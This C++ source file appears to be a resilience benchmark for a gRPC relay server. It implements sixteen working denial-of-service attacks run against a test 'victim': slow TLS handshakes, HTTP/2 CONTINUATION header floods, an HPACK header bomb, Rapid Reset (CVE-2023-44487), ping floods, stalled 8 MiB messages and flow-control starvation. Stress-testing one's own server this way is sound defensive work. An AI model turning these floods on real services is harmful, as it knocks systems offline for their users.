#include "tests/bench/flood/attacks.h"

#include <array>
#include <chrono>
#include <string>
#include <thread>
#include <vector>

#include "renkei/relay/v1/enrolment.grpc.pb.h"

namespace renkei::flood {
namespace {

namespace v1 = relay::v1;
using Stop = std::atomic<bool>;

constexpr std::size_t kMessageBytes = std::size_t{8} << 20U;
constexpr std::size_t kChunk = 16384;
const std::string kAppend = "/renkei.relay.v1.Threads/Append";
const std::string kAppendStream = "/renkei.relay.v1.Threads/AppendStream";
const std::string kRead = "/renkei.relay.v1.Threads/Read";
const std::string kWatch = "/renkei.relay.v1.Threads/Watch";
const std::string kHealth = "/grpc.health.v1.Health/Watch";

void Hold(const Stop& stop) {
  while (!stop.load()) {
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
}

// Connections that said hello and are still there.
std::vector<Peer> Greeted(const Victim& victim, const TlsContext& context, std::size_t number,
                          const Stop& stop) {
  std::vector<Peer> out;
  for (std::size_t i = 0; i < number && !stop.load(); ++i) {
    Peer peer(victim.port());
    if (peer.ok() && peer.Greet(context)) {
      out.push_back(std::move(peer));
    }
  }
  return out;
}

// A message of gRPC that claims to be so long.
std::string Prefix(std::size_t length) {
  std::string out(1, '\0');
  for (int shift = 24; shift >= 0; shift -= 8) {
    out.push_back(static_cast<char>(length >> static_cast<unsigned>(shift)));
  }
  return out;
}

std::string Opening(const std::string& path, std::uint32_t stream, std::uint8_t more = 0) {
  return Framed(Frame::kHeaders, kEndHeaders | more, stream, Pack(CallHeaders(path)));
}

// --- without a word of TLS, or with half a word -------------------------------------------------

std::size_t SilentConnections(const Victim& victim, const Scale& scale, const Stop& stop) {
  std::vector<Peer> held;
  for (std::size_t i = 0; i < scale.connections && !stop.load(); ++i) {
    held.emplace_back(victim.port());
  }
  Hold(stop);
  return held.size();
}

// A byte of a handshake now and then.
std::size_t SlowHandshakes(const Victim& victim, const Scale& scale, const Stop& stop) {
  const std::string hello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
  std::vector<Peer> held;
  for (std::size_t i = 0; i < scale.connections && !stop.load(); ++i) {
    held.emplace_back(victim.port());
    (void)held.back().SendRaw(hello);
  }
  while (!stop.load()) {
    for (Peer& peer : held) {
      (void)peer.SendRaw("x");
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
  }
  return held.size();
}

// --- HTTP/2 and nothing more ---------------------------------------------------------------------

std::size_t SettingsOnly(const Victim& victim, const Scale& scale, const Stop& stop) {
  const TlsContext nobody({});
  const auto held = Greeted(victim, nobody, scale.connections, stop);
  Hold(stop);
  return held.size();
}

// Headers far over what is taken, in one frame after the other that never end.
std::size_t HeaderFlood(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  const TlsContext nobody({});
  const std::string piece = Pack({{"x-flood", std::string(8000, 'x')}});
  std::size_t sent = 0;
  while (!stop.load()) {
    Peer peer(victim.port());
    bool is_open = peer.ok() && peer.Greet(nobody);
    std::uint32_t stream = 1;
    is_open = is_open && peer.Send(Framed(Frame::kHeaders, 0, stream, Pack(CallHeaders(kAppend))));
    while (is_open && !stop.load()) {
      is_open = peer.Send(Framed(Frame::kContinuation, 0, stream, piece));
      ++sent;
    }
  }
  return sent;
}

// The same of one byte each: a field of the table that both sides keep, again and again.
std::size_t HeaderBomb(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  const TlsContext nobody({});
  const std::string into_table(
      "\x40\x01"
      "a"
      "\x00",
      4);
  const std::string from_table(200, '\xbe');
  std::string burst;
  for (int i = 0; i < 64; ++i) {
    burst += Framed(Frame::kContinuation, 0, 1, from_table);
  }
  std::size_t sent = 0;
  while (!stop.load()) {
    Peer peer(victim.port());
    bool is_open = peer.ok() && peer.Greet(nobody);
    is_open = is_open &&
              peer.Send(Framed(Frame::kHeaders, 0, 1, Pack(CallHeaders(kAppend)) + into_table));
    while (is_open && !stop.load()) {
      is_open = peer.Send(burst);
      sent += 64 * from_table.size();
    }
  }
  return sent;
}

// Streams that are opened and broken off at once, as fast as it goes (CVE-2023-44487).
std::size_t RapidReset(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  const TlsContext nobody({});
  const std::string cancel("\0\0\0\x08", 4);
  std::size_t sent = 0;
  while (!stop.load()) {
    Peer peer(victim.port());
    bool is_open = peer.ok() && peer.Greet(nobody);
    for (std::uint32_t stream = 1; is_open && stream < 200'000 && !stop.load();) {
      std::string burst;
      for (int i = 0; i < 32; ++i, stream += 2) {
        burst += Opening(kAppend, stream) + Framed(Frame::kReset, 0, stream, cancel);
        ++sent;
      }
      is_open = peer.Send(burst) && peer.Listen(0);
    }
  }
  return sent;
}

std::size_t PingFlood(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  const TlsContext nobody({});
  std::size_t sent = 0;
  while (!stop.load()) {
    Peer peer(victim.port());
    bool is_open = peer.ok() && peer.Greet(nobody);
    std::string burst;
    for (int i = 0; i < 64; ++i) {
      burst += Framed(Frame::kPing, 0, 0, "12345678") + Framed(Frame::kSettings, 0, 0, "");
    }
    while (is_open && !stop.load()) {
      is_open = peer.Send(burst) && peer.Listen(0);
      sent += 128;
    }
  }
  return sent;
}

// --- calls that never end ------------------------------------------------------------------------

std::size_t OpenStreams(const Victim& victim, const Scale& scale, const Stop& stop,
                        const std::string& path) {
  const TlsContext nobody({});
  auto held = Greeted(victim, nobody, scale.connections / 4 + 1, stop);
  std::size_t opened = 0;
  for (Peer& peer : held) {
    for (std::uint32_t i = 0; i < scale.streams && !stop.load(); ++i) {
      opened += peer.Send(Opening(path, 2 * i + 1)) ? 1 : 0;
    }
    (void)peer.Listen(0);
  }
  Hold(stop);
  return opened;
}

std::size_t UnfinishedCalls(const Victim& victim, const Scale& scale, const Stop& stop) {
  return OpenStreams(victim, scale, stop, kAppend);
}

std::size_t HealthWatches(const Victim& victim, const Scale& scale, const Stop& stop) {
  const TlsContext nobody({});
  auto held = Greeted(victim, nobody, scale.connections / 4 + 1, stop);
  std::size_t opened = 0;
  for (Peer& peer : held) {
    for (std::uint32_t i = 0; i < scale.streams && !stop.load(); ++i) {
      const std::uint32_t stream = 2 * i + 1;
      opened +=
          peer.Send(Opening(kHealth, stream) + Framed(Frame::kData, kEndStream, stream, Prefix(0)))
              ? 1
              : 0;
    }
    (void)peer.Listen(0);
  }
  Hold(stop);
  return opened;
}

// Messages of 8 MiB of which the last byte never comes, on every stream of every connection.
std::size_t HalfMessages(const Victim& victim, const Scale& scale, const Stop& stop) {
  const TlsContext nobody({});
  auto held = Greeted(victim, nobody, scale.connections / 8 + 1, stop);
  std::vector<std::vector<std::size_t>> sent(held.size(),
                                             std::vector<std::size_t>(scale.streams, 0));
  std::size_t bytes = 0;
  for (Peer& peer : held) {
    for (std::uint32_t i = 0; i < scale.streams; ++i) {
      (void)peer.Send(Opening(kAppend, 2 * i + 1) +
                      Framed(Frame::kData, 0, 2 * i + 1, Prefix(kMessageBytes - 16)));
      peer.Spent(2 * i + 1, 5);
    }
  }
  const std::string chunk(kChunk, 'x');
  while (!stop.load()) {
    bool is_moving = false;
    for (std::size_t p = 0; p < held.size() && !stop.load(); ++p) {
      (void)held[p].Listen(0);
      for (std::uint32_t i = 0; i < scale.streams && !stop.load(); ++i) {
        const std::uint32_t stream = 2 * i + 1;
        if (sent[p][i] + kChunk + 1 < kMessageBytes &&
            held[p].window(stream) >= static_cast<std::int64_t>(kChunk) &&
            held[p].Send(Framed(Frame::kData, 0, stream, chunk))) {
          held[p].Spent(stream, kChunk);
          sent[p][i] += kChunk;
          bytes += kChunk;
          is_moving = true;
        }
      }
    }
    if (!is_moving) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  }
  return bytes >> 20U;
}

// --- with a good certificate ---------------------------------------------------------------------

// Streams whose reader takes nothing, each of another device with megabytes to read.
std::size_t SlowReaders(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  std::vector<Peer> held;
  for (std::size_t i = 0; i < victim.hostile() && !stop.load(); ++i) {
    const TlsContext device(victim.IdentityOfHostile(i));
    auto one = Greeted(victim, device, 1, stop);
    if (!one.empty() &&
        one[0].Send(Opening(kWatch, 1) + Framed(Frame::kData, kEndStream, 1, Prefix(0)))) {
      held.push_back(std::move(one[0]));
    }
  }
  Hold(stop);
  return held.size();
}

// Calls with answers of megabytes of which nothing is read: of every second device HTTP/2 takes
// nothing, of the others all, and then TCP does not.
std::size_t UnreadAnswers(const Victim& victim, const Scale& scale, const Stop& stop) {
  v1::ReadRequest request;
  request.set_case_id(victim.hostile_case());
  request.set_limit(500);
  const std::string message = Prefix(request.ByteSizeLong()) + request.SerializeAsString();
  const std::string wide =
      Framed(Frame::kSettings, 0, 0, std::string("\x00\x04\x7f\xff\xff\xff", 6)) +
      Framed(Frame::kWindowUpdate, 0, 0, std::string("\x7f\xff\x00\x00", 4));
  std::vector<Peer> held;
  std::size_t calls = 0;
  for (std::size_t i = 0; i < victim.hostile() && !stop.load(); ++i) {
    const TlsContext device(victim.IdentityOfHostile(i));
    auto one = Greeted(victim, device, 1, stop);
    if (one.empty() || (i % 2 == 1 && !one[0].Send(wide))) {
      continue;
    }
    for (std::uint32_t s = 0; s < scale.streams && !stop.load(); ++s) {
      const std::uint32_t stream = 2 * s + 1;
      calls +=
          one[0].Send(Opening(kRead, stream) + Framed(Frame::kData, kEndStream, stream, message))
              ? 1
              : 0;
    }
    held.push_back(std::move(one[0]));
  }
  Hold(stop);
  return calls;
}

// Append streams, as many as a device may have, full of records, of whose outcomes nothing is
// taken.
std::size_t UnreadOutcomes(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  constexpr std::uint32_t kStreams = 4;
  struct Sender {
    Peer peer;
    std::string message;
  };
  std::vector<Sender> held;
  for (std::size_t i = 0; i < victim.hostile() && !stop.load(); ++i) {
    const TlsContext device(victim.IdentityOfHostile(i));
    auto one = Greeted(victim, device, 1, stop);
    if (one.empty()) {
      continue;
    }
    v1::AppendRequest request;
    request.set_record(victim.RecordOfHostile(i));
    for (std::uint32_t s = 0; s < kStreams; ++s) {
      (void)one[0].Send(Opening(kAppendStream, 2 * s + 1));
    }
    held.push_back(
        {std::move(one[0]), Prefix(request.ByteSizeLong()) + request.SerializeAsString()});
  }
  std::size_t sent = 0;
  while (!stop.load()) {
    bool is_moving = false;
    for (Sender& each : held) {
      (void)each.peer.Listen(0);
      const auto size = static_cast<std::int64_t>(each.message.size());
      for (std::uint32_t stream = 1; stream < 2 * kStreams; stream += 2) {
        if (each.peer.window(stream) >= size &&
            each.peer.Send(Framed(Frame::kData, 0, stream, each.message))) {
          each.peer.Spent(stream, size);
          ++sent;
          is_moving = true;
        }
      }
    }
    if (!is_moving) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
  }
  return sent;
}

std::size_t AbandonedStreams(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  std::size_t opened = 0;
  const auto stub = v1::Threads::NewStub(victim.ChannelOfHostile(0));
  while (!stop.load()) {
    grpc::ClientContext context;
    const auto reader = stub->Watch(&context, v1::WatchRequest());
    v1::WatchEvent event;
    if (opened % 3 == 0) {
      (void)reader->Read(&event);
    }
    context.TryCancel();
    (void)reader->Finish();
    ++opened;
  }
  return opened;
}

std::size_t CallFlood(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  std::atomic<std::size_t> calls = 0;
  std::vector<std::thread> threads;
  for (std::size_t i = 0; i < 8; ++i) {
    threads.emplace_back([&victim, &stop, &calls, i] {
      const auto stub = v1::Threads::NewStub(victim.ChannelOfHostile(i));
      while (!stop.load()) {
        grpc::ClientContext context;
        v1::ListResponse response;
        (void)stub->List(&context, {}, &response);
        ++calls;
      }
    });
  }
  for (std::thread& thread : threads) {
    thread.join();
  }
  return calls;
}

std::size_t EnrolmentFlood(const Victim& victim, const Scale& /*scale*/, const Stop& stop) {
  std::atomic<std::size_t> calls = 0;
  std::vector<std::thread> threads;
  for (std::size_t i = 0; i < 8; ++i) {
    threads.emplace_back([&victim, &stop, &calls] {
      const auto stub = v1::Enrolment::NewStub(victim.ChannelOfNobody());
      v1::GetApprovalRequest request;
      request.set_ticket(std::string(16, 't'));
      while (!stop.load()) {
        grpc::ClientContext context;
        v1::GetApprovalResponse response;
        (void)stub->GetApproval(&context, request, &response);
        ++calls;
      }
    });
  }
  for (std::thread& thread : threads) {
    thread.join();
  }
  return calls;
}

constexpr std::array kAttacks = {
    Attack{"silent_connections", SilentConnections},
    Attack{"slow_handshakes", SlowHandshakes},
    Attack{"settings_only", SettingsOnly},
    Attack{"header_flood", HeaderFlood},
    Attack{"header_bomb", HeaderBomb},
    Attack{"rapid_reset", RapidReset},
    Attack{"ping_flood", PingFlood},
    Attack{"unfinished_calls", UnfinishedCalls},
    Attack{"health_watches", HealthWatches},
    Attack{"half_messages", HalfMessages},
    Attack{"slow_readers", SlowReaders},
    Attack{"unread_answers", UnreadAnswers},
    Attack{"unread_outcomes", UnreadOutcomes},
    Attack{"abandoned_streams", AbandonedStreams},
    Attack{"call_flood", CallFlood},
    Attack{"enrolment_flood", EnrolmentFlood},
};

}  // namespace

std::span<const Attack> Attacks() {
  return kAttacks;
}

}  // namespace renkei::flood
